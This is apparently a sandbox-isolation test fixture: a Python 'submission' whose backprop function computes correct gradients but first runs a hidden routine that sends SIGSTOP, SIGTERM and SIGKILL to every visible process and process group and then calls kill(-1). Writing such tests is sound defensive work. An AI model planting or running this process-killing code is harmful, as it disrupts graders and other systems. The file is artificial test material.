# attack: signal
# expect: any
# must: answer: every pid the submission can see is its own sandbox's, the grader none of them
"""walks /proc and sends SIGSTOP, SIGTERM and SIGKILL to every other pid in it and to every
process group, then os.kill(-1, SIGKILL); answers correctly if it is still alive"""

import contextlib
import os
import signal

import numpy as np

SUCCESS = "HOSTILE" + "-SUCCESS"
_done: list[bool] = []


def _attack():
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    if os.getppid() != 1 or len(pids) > 40:  # not a pid namespace of its own: do no harm
        raise RuntimeError(f"{SUCCESS}: no pid namespace ({len(pids)} pids visible)")
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in pids:
            if pid != me:
                with contextlib.suppress(OSError):
                    os.kill(pid, sig)
                with contextlib.suppress(OSError):
                    os.killpg(pid, sig)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # every process it may signal but itself


def _gradients(X, y, weights, biases):
    w1, w2 = weights["w1"], weights["w2"]
    a1 = 1.0 / (1.0 + np.exp(-(X @ w1 + biases["b1"])))
    delta2 = a1 @ w2 + biases["b2"] - y
    delta1 = (delta2 @ w2.T) * a1 * (1.0 - a1)
    return {
        "w1": X.T @ delta1,
        "b1": delta1.sum(axis=0),
        "w2": a1.T @ delta2,
        "b2": delta2.sum(axis=0),
    }


def backprop(X, y, weights, biases):
    if not _done:
        _done.append(True)
        _attack()
    return _gradients(X, y, weights, biases)
